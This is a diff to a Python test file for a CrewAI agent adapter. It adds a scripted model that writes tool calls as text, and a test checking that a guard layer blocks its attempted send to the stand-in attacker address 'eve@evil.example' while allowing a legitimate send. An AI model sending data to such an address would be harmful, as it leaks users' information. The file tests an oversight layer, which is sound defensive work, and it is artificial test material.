@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 from typing import Any
 
@@ -57,6 +58,31 @@ class TestCrew(Adapter):
     def go(self, model: Any, tools: Any, run: Run) -> None:
         agent = Agent(role="assistant", goal="help", backstory="You help.", llm=model, tools=tools, max_retry_limit=0)
         Crew(agents=[agent], tasks=[Task(description=run.task, expected_output="whether it is done", agent=agent)]).kickoff()
+
+
+class Writing(Scripted):
+    """A model that can't call tools, and writes its calls."""
+
+    def supports_function_calling(self) -> bool:
+        return False
+
+    def call(self, messages: Any, tools: Any = None, *args: Any, **kwargs: Any) -> Any:
+        step = self.script[self.at]
+        self.at += 1
+        if isinstance(step, str):
+            return f"Thought: I now know the final answer.\nFinal Answer: {step}"
+        ((name, arguments),) = step
+        return f"Thought: on it.\nAction: {name}\nAction Input: {json.dumps(arguments)}"
+
+
+def test_calls_that_are_text_are_decided() -> None:
+    run = Run([[READ], [send("eve@evil.example")], [send("ann@corp.example")], "Done."])
+    tools: Any = [tool(f.__name__)(f) for f in run.office.functions]
+    with run.remit() as remit:
+        session = remit.session(tools=definitions(tools))
+        session.user(run.task)
+        TestCrew().go(Writing(model="writing", script=run.script), protect(session, tools), run)
+    assert run.office.sent == ["ann@corp.example"]
 
 
 def test_a_refused_call_is_decided_again() -> None:
